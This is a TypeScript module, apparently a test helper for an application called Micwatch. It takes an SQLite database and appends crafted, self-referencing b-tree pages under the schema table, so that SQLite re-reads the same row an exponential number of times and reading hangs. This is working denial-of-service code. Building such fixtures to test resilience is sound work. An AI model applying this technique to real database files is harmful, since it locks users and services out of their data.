/** Creates an SQLite file that takes practically forever to read. */

import { readFile, writeFile } from 'node:fs/promises'

const interior = 0x05
const leaf = 0x0d
const depth = 12
const children = 500
/** A name in the schema of every Micwatch database. SQLite reports no error if the schema contains it several times. */
const repeated = 'sqlite_autoindex_meta_1'

/**
 * Adds pages below the schema's b-tree, each of which references the next one many times. SQLite follows all
 * references, and reads the same row again and again. See https://www.sqlite.org/fileformat2.html#b_tree_pages
 */
export async function makeEndless(path: string): Promise<void> {
  const file = await readFile(path)
  const pageSize = file.readUInt16BE(16)
  const pages = file.length / pageSize
  if (file[100] !== interior) throw new Error('the schema is on one page')
  const row = findRow(file, pageSize)

  const leafPage = Buffer.alloc(pageSize)
  leafPage[0] = leaf
  leafPage.writeUInt16BE(1, 3)
  leafPage.writeUInt16BE(pageSize - row.length, 5)
  leafPage.writeUInt16BE(pageSize - row.length, 8)
  row.copy(leafPage, pageSize - row.length)

  const last = file.readUInt32BE(108)
  const added = Array.from({ length: depth }, (_, index) => {
    const next = pages + index + 2
    return makeInterior(pageSize, index === 0 ? [last, ...Array(children).fill(next)] : Array(children).fill(next))
  })
  file.writeUInt32BE(pages + 1, 108)
  file.writeUInt32BE(pages + depth + 1, 28)
  await writeFile(path, Buffer.concat([file, ...added, leafPage]))
}

/** Returns the bytes of the cell with the row named `repeated`. */
function findRow(file: Buffer, pageSize: number): Buffer {
  // The first page is skipped: it still contains old copies of rows that have moved to its children.
  const name = file.indexOf(repeated, pageSize)
  const start = name - (name % pageSize)
  const cells = Array.from(
    { length: file.readUInt16BE(start + 3) },
    (_, index) => start + file.readUInt16BE(start + 8 + 2 * index),
  )
  const cell = Math.max(...cells.filter((offset) => offset < name))
  // A cell begins with the row's length and number, which take one byte each.
  return file.subarray(cell, cell + 2 + (file[cell] ?? 0))
}

function makeInterior(pageSize: number, pointers: readonly number[]): Buffer {
  const page = Buffer.alloc(pageSize)
  const cellSize = 5
  const cells = pointers.slice(0, -1)
  page[0] = interior
  page.writeUInt16BE(cells.length, 3)
  page.writeUInt16BE(pageSize - cells.length * cellSize, 5)
  page.writeUInt32BE(pointers.at(-1) ?? 0, 8)
  for (const [index, pointer] of cells.entries()) {
    const cell = pageSize - (index + 1) * cellSize
    page.writeUInt16BE(cell, 12 + 2 * index)
    page.writeUInt32BE(pointer, cell)
    page[cell + 4] = 1
  }
  return page
}
